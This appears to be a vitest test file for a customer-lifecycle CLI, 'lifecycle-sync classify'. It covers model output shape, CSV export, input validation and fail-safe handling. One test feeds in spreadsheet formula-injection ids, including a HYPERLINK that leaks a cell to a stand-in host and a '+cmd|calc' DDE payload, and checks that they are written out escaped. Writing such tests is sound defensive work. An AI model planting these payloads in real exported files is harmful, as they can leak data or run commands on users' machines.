/** The `classify` command as a user runs it: real process, real files. */
import { existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { isoDateOfDay } from '../../src/classifier/features.ts';
import { STAGES_IN_LIFECYCLE_ORDER } from '../../src/classifier/types.ts';
import { todayDay } from '../../src/io/dates.ts';
import { CDNOW_CSV } from '../helpers.ts';
import { runCli } from './run.ts';

const dir = mkdtempSync(join(tmpdir(), 'lcs-cli-'));
const file = (name: string, text: string) => {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
};

const customerShape = z
  .object({
    customerId: z.string(),
    stage: z.enum(STAGES_IN_LIFECYCLE_ORDER as [string, ...string[]]),
    reason: z.string().min(1),
    frequency: z.number().int().min(0),
    recency: z.number().min(0),
    T: z.number().min(0),
    pAlive: z.number().min(0).max(1).nullable(),
    churnRisk: z.number().min(0).max(100).nullable(),
    expectedPurchases: z.number().min(0).nullable(),
    clv: z.number().nullable(),
    ltv: z.number(),
    valueTier: z.enum(['top', 'middle', 'bottom']).nullable(),
  })
  .passthrough();

const outputShape = z.object({
  asOf: z.string().regex(/^\d{4}-\d{2}-\d{2}$/),
  timeUnit: z.enum(['day', 'week']),
  model: z.object({ name: z.string(), params: z.record(z.string(), z.number()), logLikelihood: z.number().nullable(), converged: z.boolean() }).passthrough(),
  spendModel: z.object({ name: z.literal('gamma_gamma'), params: z.object({ p: z.number(), q: z.number(), gamma: z.number() }), logLikelihood: z.number() }).passthrough().nullable(),
  summary: z.object({ customers: z.number(), stages: z.record(z.string(), z.number()) }).passthrough(),
  customers: z.array(customerShape),
});

describe('lifecycle-sync classify', () => {
  it('classifies the CDNOW sample to the documented JSON shape with the published Pareto/NBD fit', async () => {
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--as-of', '1997-09-30']);
    expect(r.code, r.stderr).toBe(0);
    const out = outputShape.parse(JSON.parse(r.stdout));
    expect(out.asOf).toBe('1997-09-30');
    expect(out.timeUnit).toBe('week');
    expect(out.model.name).toBe('pareto_nbd');
    expect(Object.keys(out.model.params)).toEqual(['r', 'alpha', 's', 'beta']);
    expect(out.model.params.r).toBeCloseTo(0.553, 2);
    expect(out.model.converged).toBe(true);
    expect(out.spendModel?.params.p).toBeCloseTo(6.25, 1);
    expect(out.customers).toHaveLength(2357);
    expect(out.summary.customers).toBe(2357);
    expect(Object.values(out.summary.stages).reduce((a, b) => a + b, 0)).toBe(2357);
    const first = out.customers.find((c) => c.customerId === '0001');
    expect(first).toMatchObject({ frequency: 2, recency: 30.4286, T: 38.8571 });
    expect(first?.reason).toMatch(/^3 purchases, last on \d{4}-\d\d-\d\d; \d+ % likely still active → /);
    // rows after the as-of date were counted, not used
    expect(r.stderr).toMatch(/classified 2357 customers as of 1997-09-30 with pareto_nbd; 4\d{3} rows used, 0 skipped, \d+ after the as-of date/);
  });

  it('honours --model, --time-unit, --expected-days, --horizon-months and --discount-rate', async () => {
    const out = join(dir, 'bg.json');
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--as-of', '1997-09-30', '--model', 'bg_nbd', '--time-unit', 'day', '--expected-days', '30', '--horizon-months', '6', '--discount-rate', '0', '--output', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    const parsed = outputShape.parse(JSON.parse(readFileSync(out, 'utf8')));
    expect(parsed.model.name).toBe('bg_nbd');
    expect(Object.keys(parsed.model.params)).toEqual(['r', 'alpha', 'a', 'b']);
    expect(parsed.timeUnit).toBe('day');
    // alpha is a time scale: in days it is seven times the weekly value (4.414 weeks)
    expect(parsed.model.params.alpha).toBeCloseTo(4.414 * 7, 0);
    const first = parsed.customers.find((c) => c.customerId === '0001');
    expect(first?.T).toBe(272);
  });

  it('writes CSV with the same per-customer fields', async () => {
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const parsed = Papa.parse<Record<string, string>>(r.stdout.trim(), { header: true });
    expect(parsed.data).toHaveLength(2357);
    expect(parsed.meta.fields?.slice(0, 12)).toEqual(['customerId', 'stage', 'reason', 'frequency', 'recency', 'T', 'pAlive', 'churnRisk', 'expectedPurchases', 'clv', 'ltv', 'valueTier']);
    const row = parsed.data.find((d) => d.customerId === '0001');
    expect(row?.reason).toContain('purchases, last');
    expect(Number(row?.pAlive)).toBeGreaterThan(0);
  });

  it('writes a customer id that a spreadsheet would run as a formula as text (a leading quote)', async () => {
    const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|calc', '@SUM(1+1)', '-2+3', 'plain'];
    const rows = ids.flatMap((id) => [[id, '2024-01-05', '10.5'], [id, '2024-03-01', '20']]);
    const path = file('formulas.csv', Papa.unparse({ fields: ['customer_id', 'date', 'amount'], data: rows }));
    const r = await runCli(['classify', '--transactions', path, '--as-of', '2024-06-01', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const parsed = Papa.parse<Record<string, string>>(r.stdout.trim(), { header: true });
    const written = parsed.data.map((d) => d.customerId).sort();
    expect(written).toEqual([...ids.filter((id) => id !== 'plain').map((id) => `'${id}`), 'plain'].sort());
    // Numeric columns stay numbers.
    for (const d of parsed.data) expect(d.ltv).toBe('30.5');
  });

  it('reports bad rows with their line numbers, skips them and says how many in the summary', async () => {
    const path = file('bad.csv', 'customer_id,date,amount\na,2024-01-01,10\nb,not-a-date,5\nc,2024-02-01,abc\na,2024-03-01,20\n');
    const r = await runCli(['classify', '--transactions', path]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`skipped ${path}:3: date "not-a-date" is not a date`);
    expect(r.stderr).toContain(`skipped ${path}:4: amount "abc" is not a number`);
    const out = JSON.parse(r.stdout) as { summary: { input: { skippedRows: number; validRows: number } }; customers: unknown[] };
    expect(out.summary.input).toMatchObject({ skippedRows: 2, validRows: 2 });
    expect(out.customers).toHaveLength(1);
  });

  it('--strict makes the first bad row fatal', async () => {
    const path = file('strict.csv', 'customer_id,date,amount\na,2024-01-01,10\nb,2024-13-01,5\n');
    const r = await runCli(['classify', '--transactions', path, '--strict']);
    expect(r.code).not.toBe(0);
    expect(r.stderr.trim().split('\n')).toEqual([`lifecycle-sync: ${path}:3: date "2024-13-01" is not a date (YYYY-MM-DD, YYYYMMDD or an ISO timestamp) (--strict stops at the first bad row)`]);
  });

  it.each([
    ['a missing file', ['--transactions', join(dir, 'missing.csv')], /^lifecycle-sync: transactions file not found: /],
    ['a missing column', ['--transactions', 'MISSING_COLUMN'], /^lifecycle-sync: .*missing column "amount" \(header has: customer_id, date, value\); name it with --amount-column$/],
    ['a file with no valid row', ['--transactions', 'NO_VALID_ROW'], /^lifecycle-sync: no valid transaction rows in .* \(2 rows: 2 bad\)$/],
    ['a bad --as-of', ['--transactions', CDNOW_CSV, '--as-of', '30/09/1997'], /--as-of must be a date as YYYY-MM-DD \(got "30\/09\/1997"\)/],
    ['a bad --model', ['--transactions', CDNOW_CSV, '--model', 'nbd'], /argument 'nbd' is invalid. Allowed choices are pareto_nbd, bg_nbd, mbg_nbd/],
  ])('exits non-zero with a one-line message, never a stack trace, for %s', async (_, args, message) => {
    const resolved = args.map((a) =>
      a === 'MISSING_COLUMN' ? file('cols.csv', 'customer_id,date,value\na,2024-01-01,1\n') : a === 'NO_VALID_ROW' ? file('none.csv', 'customer_id,date,amount\na,x,1\nb,2024-01-01,y\n') : a,
    );
    const r = await runCli(['classify', ...resolved]);
    expect(r.code).not.toBe(0);
    const lines = r.stderr.trim().split('\n').filter((l) => !l.startsWith('skipped ') && !l.startsWith('(add --help'));
    expect(lines[0]).toMatch(message);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  it('names a config error by file and key', async () => {
    const config = file('bad.yaml', 'classifier:\n  expectedDays: -3\n');
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--config', config]);
    expect(r.code).not.toBe(0);
    expect(r.stderr.trim()).toBe(`lifecycle-sync: invalid config (${config}): classifier.expectedDays: must be a positive number of days (got -3)`);
  });
});

/** Every number in a parsed JSON value. */
function numbersIn(value: unknown): number[] {
  if (typeof value === 'number') return [value];
  if (value !== null && typeof value === 'object') return Object.values(value).flatMap(numbersIn);
  return [];
}

describe('lifecycle-sync classify fails safe (issue 8)', () => {
  const cdnow = readFileSync(CDNOW_CSV, 'utf8');
  const lines = cdnow.trimEnd().split('\n').length;

  it('a row dated 9999-12-31 is reported and skipped; the default as-of stays the latest real purchase', async () => {
    const path = file('placeholder.csv', `${cdnow.trimEnd()}\nzz,9999-12-31,5\n`);
    const r = await runCli(['classify', '--transactions', path]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`skipped ${path}:${lines + 1}: date 9999-12-31 is in the future`);
    const out = outputShape.parse(JSON.parse(r.stdout));
    expect(out.asOf).toBe('1998-06-30');
    expect(out.customers.some((c) => c.customerId === 'zz')).toBe(false);
    expect(out.summary.stages.churned).toBeLessThan(out.customers.length / 2);
  });

  it.each([
    ['2999-01-01', /^lifecycle-sync: --as-of 2999-01-01 is in the future: it must be from 1900-01-01 to (\d{4}-\d\d-\d\d) /],
    ['1900-01-01', /^lifecycle-sync: --as-of 1900-01-01 is before the first purchase \(1997-01-01\), so every customer would be scored as a prospect: it must be from 1997-01-01 to (\d{4}-\d\d-\d\d)/],
    ['1899-12-31', /^lifecycle-sync: --as-of 1899-12-31 is before classifier.input.earliestDate: it must be from 1900-01-01 to (\d{4}-\d\d-\d\d)/],
  ])('--as-of %s is refused with the allowed range; exit 1 and nothing written', async (asOf, message) => {
    const out = join(dir, `refused-${asOf}.json`);
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--as-of', asOf, '--output', out]);
    expect(r.code).toBe(1);
    const lines = r.stderr.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(message);
    expect(message.exec(lines[0])?.[1]).toBe(isoDateOfDay(todayDay() + 2));
    expect(existsSync(out)).toBe(false);
  });

  it('amounts like 1e308 are reported and skipped; the JSON holds only finite numbers', async () => {
    const path = file('huge.csv', `${cdnow.trimEnd()}\n0001,1997-03-01,1e308\n0002,1997-03-02,-1e308\n0003,1997-03-03,1e999\n`);
    const r = await runCli(['classify', '--transactions', path]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`skipped ${path}:${lines + 1}: amount 1e308 is beyond classifier.input.maxAmount (1000000000)`);
    expect(r.stderr).toContain(`skipped ${path}:${lines + 3}: amount Infinity is beyond classifier.input.maxAmount`);
    const parsed: unknown = JSON.parse(r.stdout);
    const numbers = numbersIn(parsed);
    expect(numbers.length).toBeGreaterThan(2357 * 8);
    expect(numbers.every(Number.isFinite)).toBe(true);
    const csv = await runCli(['classify', '--transactions', path, '--format', 'csv']);
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).not.toMatch(/Infinity|NaN/);
  });

  it('refunds (negative amounts) are netted against the customer: LTV never negative; counted in the summary', async () => {
    const path = file('refunds.csv', 'customer_id,date,amount\na,2024-01-01,10\na,2024-02-01,20\na,2024-03-01,-5\nb,2024-01-01,10\nb,2024-01-02,-50\nc,2024-01-03,0\nc,2024-02-03,0\n');
    const r = await runCli(['classify', '--transactions', path]);
    expect(r.code, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as { summary: { input: { refundRows: number } }; customers: { customerId: string; ltv: number; frequency: number }[] };
    const by = new Map(out.customers.map((c) => [c.customerId, c]));
    expect(by.get('a')).toMatchObject({ ltv: 25, frequency: 1 });
    expect(by.get('b')).toMatchObject({ ltv: 0, frequency: 0 });
    expect(by.get('c')).toMatchObject({ ltv: 0, frequency: 1 });
    expect(out.summary.input.refundRows).toBe(2);
    expect(r.stderr).toMatch(/2 refunds \(negative amounts\) netted/);
  });

  it('--output naming the --transactions file (same path, another spelling, a symlink, a hard link) is refused; the input is untouched', async () => {
    const sub = join(dir, 'same');
    mkdirSync(sub, { recursive: true });
    const input = join(sub, 'in.csv');
    const text = 'customer_id,date,amount\na,2024-01-01,10\n';
    writeFileSync(input, text);
    symlinkSync(input, join(sub, 'link.csv'));
    linkSync(input, join(sub, 'hard.csv'));
    for (const output of [input, join(sub, '.', 'in.csv'), join(sub, '..', 'same', 'in.csv'), join(sub, 'link.csv'), join(sub, 'hard.csv')]) {
      const r = await runCli(['classify', '--transactions', input, '--output', output]);
      expect(r.code, output).toBe(1);
      expect(r.stderr.trim()).toBe(`lifecycle-sync: --output ${output} is the --transactions file ${input}: writing it would overwrite the input`);
      expect(readFileSync(input, 'utf8')).toBe(text);
    }
  });

  it('an empty or comments-only --config file means no overrides', async () => {
    for (const [name, text] of [['empty.yaml', ''], ['comments.yaml', '# nothing yet\n# classifier:\n#   model: bg_nbd\n'], ['section.yaml', 'classifier:\n  # model: bg_nbd\n']]) {
      const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--as-of', '1997-09-30', '--config', file(name, text), '--format', 'csv']);
      expect(r.code, `${name}: ${r.stderr}`).toBe(0);
    }
  });

  it('a huge headerless line or config value is quoted as a short excerpt in the one-line error', async () => {
    const headerless = file('headerless.csv', `${'x'.repeat(3_000_000)}\n`);
    const r = await runCli(['classify', '--transactions', headerless]);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr.length).toBeLessThan(headerless.length + 300);
    expect(r.stderr).toContain('(3000000 characters)');
    const config = file('long.yaml', `classifier:\n  model: ${'m'.repeat(1_000_000)}\n`);
    const c = await runCli(['classify', '--transactions', CDNOW_CSV, '--config', config]);
    expect(c.code).toBe(1);
    expect(c.stderr.length).toBeLessThan(config.length + 400);
    expect(c.stderr).toContain('(1000000 characters)');
    const flag = await runCli(['classify', '--transactions', CDNOW_CSV, '--expected-days', 'x'.repeat(100_000)]);
    expect(flag.code).toBe(1);
    expect(flag.stderr.length).toBeLessThan(400);
  });
});

describe('lifecycle-sync demo (offline)', () => {
  it('prints a readable summary of the bundled demo data', async () => {
    const r = await runCli(['demo']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('Lifecycle summary as of 1998-06-30 — 2,357 people');
    expect(r.stdout).toMatch(/Model: pareto_nbd \(r=[\d.]+ alpha=[\d.]+ s=[\d.]+ beta=[\d.]+; log-likelihood -\d+\.\d; converged; unit week\)/);
    expect(r.stdout).toMatch(/Customers per stage[\s\S]*Loyalty\s+[\d,]+/);
    expect(r.stdout).toMatch(/Top 20 %\s+[\d,]+ customers/);
    expect(r.stdout).toMatch(/Simple LTV \(revenue ÷ customers in the period\): \$[\d,.]+/);
  });
});
